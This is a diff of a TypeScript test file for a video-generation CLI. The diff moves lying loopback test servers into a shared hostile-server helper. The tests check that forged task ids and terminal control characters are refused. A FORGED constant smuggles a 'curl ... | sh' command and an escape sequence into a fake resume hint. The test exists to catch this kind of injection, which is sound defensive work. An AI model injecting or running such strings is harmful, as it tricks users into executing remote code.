@@ -3,29 +3,21 @@
 // command is on a line of its own, the last one, and runs as printed. Each case runs the built
 // CLI against a lying loopback server started here.
 import fs from "node:fs";
-import http from "node:http";
-import type { AddressInfo } from "node:net";
 import os from "node:os";
 import path from "node:path";
 import { afterEach, beforeEach, expect, test } from "vitest";
+import { type Hostile, startHostile } from "../../../test/support/hostile.js";
 import { interrupted, jsonError, jsonEvents, lastLine, monet, runPrinted } from "./run.ts";
 
 // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
 const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
 const FORGED = "; nothing is lost. Resume with: monet wait task_42 --out ./videos; curl -s http://127.0.0.1:9/x|sh \x1b]";
 
-interface Liar {
-  url: string;
-  seen: string[];
-  close(): Promise<void>;
-}
+type Liar = Hostile;
 
 /** A lying API: `task(id)` is what GET /tasks/<id> answers; a create streams `created` for `streamed` and holds the stream open. */
-async function startLiar(opts: { task: (asked: string, origin: string) => Record<string, unknown>; streamed?: Record<string, unknown> }): Promise<Liar> {
-  const seen: string[] = [];
-  const server = http.createServer((req, res) => {
-    seen.push(`${req.method} ${req.url}`);
-    req.resume();
+const startLiar = (opts: { task: (asked: string, origin: string) => Record<string, unknown>; streamed?: Record<string, unknown> }): Promise<Liar> =>
+  startHostile((req, res) => {
     const origin = `http://${req.headers.host}`;
     if (req.url?.startsWith("/out/")) return res.writeHead(200, { "content-type": "video/mp4", "content-length": "100" }).end(Buffer.alloc(100));
     if (req.method === "POST" && opts.streamed) {
@@ -38,17 +30,6 @@ async function startLiar(opts: { task: (asked: string, origin: string) => Record
       return res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(opts.task(decodeURIComponent(get[1]), origin)));
     res.writeHead(404).end();
   });
-  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
-  return {
-    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
-    seen,
-    close: () =>
-      new Promise((r) => {
-        server.closeAllConnections();
-        server.close(() => r());
-      }),
-  };
-}
 
 let liar: Liar | undefined;
 let cwd: string;
@@ -90,7 +71,7 @@ test("F1: a GET answer naming another task is refused, naming both ids: no file 
   expect(r.stderr).not.toMatch(CONTROL);
   expect(r.stderr.split("\n").filter(Boolean)).toHaveLength(1); // one error line, no command to paste
   expect(fs.readdirSync(path.join(cwd, "out"))).toEqual([]);
-  expect(liar.seen.filter((s) => s.startsWith("GET /out/"))).toEqual([]);
+  expect(liar.seen.filter((s) => s.method === "GET" && s.path.startsWith("/out/"))).toEqual([]);
 });
 
 test("F1: a refused download (file_exists) names the CLI's command on the last line, after the server's text", async () => {
@@ -106,23 +87,13 @@ test("F1: a refused download (file_exists) names the CLI's command on the last l
 });
 
 /** A create whose stream names `id` and ends at once with its success (an output of 100 bytes). */
-async function streamingSuccess(id: string): Promise<{ url: string; close(): Promise<unknown> }> {
-  const server = http.createServer((req, res) => {
-    req.resume();
+const streamingSuccess = (id: string): Promise<Hostile> =>
+  startHostile((req, res) => {
     if (req.url?.startsWith("/out/")) return res.writeHead(200, { "content-type": "video/mp4", "content-length": "100" }).end(Buffer.alloc(100));
     const done = task(id, "success", { outputs: [{ url: `http://${req.headers.host}/out/a.mp4` }] });
     res.writeHead(200, { "content-type": "text/event-stream" });
     res.end(`event: success\ndata: ${JSON.stringify({ event: "success", task: done })}\n\n`);
   });
-  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
-  return {
-    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
-    close: () => {
-      server.closeAllConnections();
-      return new Promise((r) => server.close(r));
-    },
-  };
-}
 
 test("F1: in --json, a streamed id holding control characters is refused; the error carries none, nor a resume (the same create meets the same id)", async () => {
   const server = await streamingSuccess("task_\x1b]0;x\x9d\u202e");
@@ -176,5 +147,5 @@ test("F8: a task id that starts with - is placed after --: the printed command, 
   const resumed = await runPrinted(printed, { cwd, env });
   expect(resumed.code, resumed.stderr).toBe(0);
   expect(resumed.stdout).toContain(`done: ${id}`);
-  expect(liar.seen).toContain(`GET /api/v1/tasks/${encodeURIComponent(id)}`);
+  expect(liar.seen.map((s) => `${s.method} ${s.path}`)).toContain(`GET /api/v1/tasks/${encodeURIComponent(id)}`);
 });
